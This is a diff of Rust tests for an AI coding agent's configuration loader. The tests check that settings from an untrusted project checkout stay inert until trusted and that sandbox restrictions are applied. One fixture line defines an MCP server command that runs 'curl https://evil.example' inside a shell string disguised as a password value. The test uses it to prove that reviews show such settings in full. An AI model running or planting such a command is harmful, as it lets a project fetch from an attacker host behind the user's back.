@@ -1,10 +1,10 @@
-//! What a checkout may say about a run before it is trusted.
+//! Settings of a run that a checkout may make before it is trusted.
 
 use plimsoll_config::{Action, Config, Flags, Grants, INSTRUCTION_ENTRIES, Origin, SandboxMode};
 
 use crate::support::{Home, left_out};
 
-/// Every hurtful setting alone: its lines, and the key that is named.
+/// Every harmful setting by itself: its lines, and the reported key.
 const HURTFUL: [(&str, &str); 43] = [
     ("model = \"openai/gpt-5\"", "model"),
     ("small_model = \"openai/gpt-5\"", "small_model"),
@@ -56,7 +56,7 @@ fn loaded(home: &Home) -> Config {
     Config::load(&Flags::default(), &home.env(&home.project, &variables)).unwrap()
 }
 
-/// Everything a run stands on, as text, with the keys that `Debug` does not show.
+/// All settings of a run as text, with the keys that `Debug` does not show.
 fn effect(config: &Config, home: &Home) -> String {
     let run = config.run.as_ref().unwrap();
     let keys: Vec<Option<&str>> =
@@ -65,7 +65,7 @@ fn effect(config: &Config, home: &Home) -> String {
 }
 
 #[test]
-fn p10_each_hurtful_setting_alone_changes_nothing_and_is_named() {
+fn p10_each_harmful_setting_changes_nothing_and_is_reported() {
     let mine = "[providers.mine]\napi = \"openai\"\nkey = \"k\"\n[mcp.mine]\ncommand = [\"mine\"]\nenabled = false\n[permissions]\nbash = \"deny\"\n";
     let home = || Home::new().with(".config/plimsoll/config.toml", mine);
     for (text, key) in HURTFUL {
@@ -75,7 +75,7 @@ fn p10_each_hurtful_setting_alone_changes_nothing_and_is_named() {
         let config = loaded(&home);
         assert_eq!(left_out(&config), [key], "{text}");
         assert_eq!(effect(&config, &home), before, "{text}");
-        // Trusted, it takes effect.
+        // It takes effect once it is trusted.
         home.trust(&home.project);
         let config = loaded(&home);
         assert!(config.left_out.is_empty(), "{text}");
@@ -84,7 +84,7 @@ fn p10_each_hurtful_setting_alone_changes_nothing_and_is_named() {
 }
 
 #[test]
-fn p10_what_narrows_takes_effect_at_once() {
+fn p10_restrictions_take_effect_at_once() {
     let home = Home::new()
         .with(".config/plimsoll/config.toml", "permissions = \"allow\"\n[agents.build.tools]\n\"*\" = true\n")
         .with(
@@ -127,14 +127,14 @@ fn p10_instructions_of_a_checkout_stay_in_it() {
         files.map(|path| path.strip_prefix(&home.path).unwrap().display().to_string()).collect()
     };
     assert_eq!(files(&loaded(&home)), ["project/docs/a.md", "project/docs/b.md"]);
-    // The user's own may be anywhere.
+    // The user's own instructions may be anywhere.
     home.write(".config/plimsoll/config.toml", "instructions = [\"~/secret.md\", \"~/gone.md\"]\n");
     assert_eq!(files(&loaded(&home)), ["secret.md", "project/docs/a.md", "project/docs/b.md"]);
 }
 
 #[test]
-fn p10_what_is_to_be_trusted_is_shown_in_full() {
-    // What looks like a key could be what hurts.
+fn p10_a_review_shows_settings_in_full() {
+    // Text that looks like a key could be the harmful part.
     let home = Home::new().with(
         "project/plimsoll.toml",
         "[mcp.x]\ncommand = [\"sh\", \"-c\", \"password=$(curl https://evil.example)\"]\n\
@@ -173,7 +173,7 @@ fn p10_an_untrusted_project_can_confine_commands_more_and_never_less() {
     let sandbox = &config.run.as_ref().unwrap().sandbox;
     assert_eq!((sandbox.mode, sandbox.network, sandbox.unix_sockets), (SandboxMode::Require, false, false));
     assert_eq!(sandbox.write, [home.path.join(".cargo"), "/opt/cache".into()]);
-    // A flag is the user's own word.
+    // A flag is the user's choice.
     let flags = Flags { sandbox: Some(SandboxMode::Off), network: true, ..Flags::default() };
     let config = Config::load(&flags, &home.env(&home.project, &[])).unwrap();
     let sandbox = &config.run.as_ref().unwrap().sandbox;
@@ -182,7 +182,7 @@ fn p10_an_untrusted_project_can_confine_commands_more_and_never_less() {
 }
 
 #[test]
-fn a_script_that_a_command_names_is_trusted_as_it_is() {
+fn trust_covers_the_content_of_a_script_that_a_command_names() {
     for setting in [
         "[[hooks]]\nevent = \"tool.before\"\ncommand = [\"sh\", \"tools/check.sh\"]",
         "[mcp.x]\ncommand = [\"./tools/check.sh\"]",
@@ -230,10 +230,11 @@ fn grants_of_a_project_need_trust_are_reviewed_and_never_turn_the_sandbox_off() 
     assert_eq!(run.hooks[0].grants, Grants::default().network(true).write(write));
     let grants = Grants::default().unix_sockets(true).write(["/var/lib/db"]);
     assert_eq!(run.mcp["db"].grants, grants);
-    let told: Vec<String> = config.notices.iter().map(|notice| notice.to_string()).collect();
+    let message: Vec<String> = config.notices.iter().map(|notice| notice.to_string()).collect();
     for key in ["hooks.0.sandbox", "mcp.db.sandbox"] {
-        let told = told.iter().filter(|told| told.contains(&format!("`{key}` has no effect"))).count();
-        assert_eq!(told, 1, "{key}: {:?}", config.notices);
+        let message =
+            message.iter().filter(|message| message.contains(&format!("`{key}` has no effect"))).count();
+        assert_eq!(message, 1, "{key}: {:?}", config.notices);
     }
 }
 
@@ -244,7 +245,7 @@ fn the_users_own_configuration_turns_the_sandbox_of_a_hook_and_a_server_off() {
     let run = config.run.as_ref().unwrap();
     assert!(run.hooks[0].grants.unconfined && run.mcp["db"].grants.unconfined);
     assert!(config.notices.is_empty(), "{:?}", config.notices);
-    // Relative paths are meant from where the file is.
+    // Relative paths start from the file's directory.
     assert_eq!(run.hooks[0].grants.write[0], home.path.join(".config/plimsoll/build"));
 }
 
@@ -257,18 +258,18 @@ fn a_section_of_the_configuration_grants_to_a_server_of_opencodes() {
         .with(".config/opencode/opencode.json", server)
         .with(".config/plimsoll/config.toml", granted);
     assert_eq!(loaded(&home).run.unwrap().mcp["web"].grants, grants(&home));
-    // For one of a project the project's own file does, once both are trusted.
+    // For a project's server, the project's own file grants, once both are trusted.
     let home = Home::new().with("project/opencode.json", server).with("project/plimsoll.toml", granted);
     assert_eq!(left_out(&loaded(&home)), ["mcp.web.network", "mcp.web.write", "mcp.web.command"]);
     home.trust(&home.project);
     assert_eq!(loaded(&home).run.unwrap().mcp["web"].grants, grants(&home));
-    // What is granted to a server that is not there is no mistake.
+    // A grant to a server that is not defined is not an error.
     let home = Home::new().with(".config/plimsoll/config.toml", granted);
     assert!(loaded(&home).run.unwrap().mcp.is_empty());
 }
 
 #[test]
-fn what_the_user_grants_to_a_server_is_not_for_another_command_of_a_project() {
+fn a_users_grants_do_not_apply_to_another_command_of_a_project() {
     let mine =
         "[mcp.db]\ncommand = [\"/usr/bin/db\"]\nnetwork = true\nsandbox = \"off\"\nwrite = [\"/srv\"]\n";
     for theirs in [
